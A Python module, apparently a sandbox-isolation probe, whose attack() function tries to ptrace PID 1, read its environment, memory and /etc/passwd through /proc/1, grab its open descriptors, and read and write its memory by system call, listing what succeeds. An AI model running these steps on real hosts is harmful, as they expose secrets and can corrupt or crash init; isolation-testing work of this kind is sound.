"""Traces process 1, reads its memory and its environment, and takes or closes what it has open."""

import ctypes
import os
from contextlib import suppress
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE = 16, 0x4206
PIDFD_OPEN, PIDFD_GETFD, READ_MEMORY, WRITE_MEMORY = 434, 438, 310, 311  # x86_64
FILES = (
    "mem",
    "environ",
    "maps",
    "auxv",
    "stack",
    "syscall",
    "fd",
    "fdinfo",
    "map_files",
    "root/etc/passwd",
    "cwd/x",
)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    got = [f"ptrace {order:#x}" for order in (ATTACH, SEIZE) if LIBC.ptrace(order, 1, None, None) == 0]
    for name in FILES:
        path = Path("/proc/1", name)
        for flags in (os.O_RDONLY, os.O_RDWR):
            try:
                file = os.open(path, flags)
            except OSError:
                continue
            with suppress(OSError):
                got.append(f"{path}: {os.read(file, 16)!r}")
    for number in range(64):
        try:
            os.open(f"/proc/1/fd/{number}", os.O_RDWR)
        except OSError:
            continue
        got.append(f"descriptor {number} by its path")
    process = LIBC.syscall(PIDFD_OPEN, 1, 0)
    got += [
        f"descriptor {number}" for number in range(64) if LIBC.syscall(PIDFD_GETFD, process, number, 0) >= 0
    ]
    buffer = ctypes.create_string_buffer(16)
    mine, its = Piece(ctypes.addressof(buffer), 16), Piece(0x400000, 16)
    for call in (READ_MEMORY, WRITE_MEMORY):
        if LIBC.syscall(call, 1, ctypes.byref(mine), 1, ctypes.byref(its), 1, 0) > 0:
            got.append(f"memory by system call {call}")
    for number in os.listdir("/proc/self/fd"):
        name = os.readlink(f"/proc/self/fd/{number}") if os.path.exists(f"/proc/self/fd/{number}") else ""
        if "hearth" in name or "eventpoll" in name or "signalfd" in name:
            got.append(f"{name}, which init left open")
    return got
